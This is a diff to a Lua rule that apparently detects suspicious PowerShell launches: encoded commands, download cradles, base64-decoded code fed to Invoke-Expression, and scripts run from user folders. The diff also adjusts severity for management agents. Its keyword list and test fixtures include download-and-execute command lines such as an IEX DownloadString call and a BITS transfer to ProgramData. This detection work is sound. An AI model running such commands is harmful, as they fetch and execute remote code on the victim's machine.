@@ -9,6 +9,7 @@ local windows = require "kaiseki.windows"
 
 -- How management agents get a script past quoting; of the sample's tree it is another matter.
 local ENCODED = "an encoded command"
+local SCRIPT = "a script from a user's folder"
 
 local DOWNLOADS = {
     "downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "start-bitstransfer", "webclient",
@@ -42,16 +43,41 @@ local function is_hidden(each)
     return value ~= nil and (value:lower():find "^h" ~= nil or value == "1")
 end
 
+-- A script of a user's place or another drive, given with -File or first.
+local function script_of(each, case)
+    for i = 2, #each.words do
+        local word = windows.backslashed(each.words[i]):gsub("^[&%s']+", "")
+        if windows.extension(word) == "ps1" then
+            return (windows.in_user_place(word, case) or windows.on_other_drive(word, case)) and word or nil
+        end
+    end
+    return nil
+end
+
 local function suspicion(each, case)
     if each.program ~= "powershell" and each.program ~= "pwsh" then return nil end
     if is_encoded(each) then return ENCODED end
     local runs, downloads = holds(each.folded, RUNS), holds(each.folded, DOWNLOADS)
     if runs and downloads then return "what it downloads" end
+    local decodes = each.folded:find("frombase64string", 1, true)
+    if decodes and (each.folded:find "iex%f[%W]" or each.folded:find("invoke-expression", 1, true)
+        or each.folded:find("reflection.assembly", 1, true)) then
+        return ENCODED
+    end
     if is_hidden(each) and (runs or downloads) then return "a hidden command" end
     if downloads and windows.has_url(each.folded) and windows.in_user_place(each.text, case) then
         return "a download"
     end
-    return nil
+    return script_of(each, case) and SCRIPT or nil
+end
+
+-- What a finding weighs less for: installed programs and their agents work so, and so do administrators from afar.
+local function weigh(case, process, what, event)
+    local child = lineage.started(event)
+    if (what ~= ENCODED and what ~= SCRIPT) or (child and child.in_tree) then return nil end
+    if trusted.is_bystander(case, process) then return "low" end
+    local by_hand = what == SCRIPT and not process.in_tree
+    return (by_hand or trusted.is_remote_management(process)) and not process.in_tree and "medium" or nil
 end
 
 local told = memory.of_case()
@@ -61,22 +87,23 @@ rule {
     title = "Encoded, hidden or downloaded PowerShell",
     severity = "high",
     attack = { "T1059.001" },
-    description = "PowerShell is given an encoded command, or downloads and runs text without a window.",
+    description = "PowerShell is given an encoded command, downloads and runs text without a window, or runs a script "
+        .. "that lies where users put files.",
     references = { "https://attack.mitre.org/techniques/T1059/001/" },
     false_positives = { "Management agents encode commands to get them past quoting; package managers install so." },
     author = "kaiseki",
-    match = operation:is "Process Create" & child.command_line:contains { "powershell", "pwsh" },
+    match = operation:is "Process Create" & child.command_line:contains { "powershell", "pwsh", "^" },
     on_event = function(event, case)
         local what = command.first(event.child.command_line, function(each) return suspicion(each, case) end)
         if not what then return end
         local process, list = lineage.requester(event.process), told(case)
-        list[#list + 1] = { process = process, what = what }
+        list[#list + 1] = { process = process, what = what, index = event.index }
         case:finding { process = process, key = what, event = event }
     end,
     on_finish = function(case)
         for _, each in ipairs(told(case)) do
-            local ordinary = each.what == ENCODED and trusted.is_bystander(case, each.process)
-            if ordinary then case:finding { process = each.process, key = each.what, severity = "low" } end
+            local severity = weigh(case, each.process, each.what, case:event(each.index))
+            if severity then case:finding { process = each.process, key = each.what, severity = severity } end
         end
     end,
     finding = function(finding)
@@ -92,6 +119,9 @@ rule {
               ["process.name"] = "a.exe",
               ["child.command_line"] =
                   [[powershell Start-BitsTransfer -Source http://203.0.113.5/a -Destination C:\ProgramData\a.exe]] },
+            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
+              ["process.name"] = "explorer.exe",
+              ["child.command_line"] = [[powershell.exe -ExecutionPolicy Bypass -File "C:\Users\x\Downloads\a.ps1"]] },
             { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "winword.exe",
               ["child.command_line"] =
                   [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
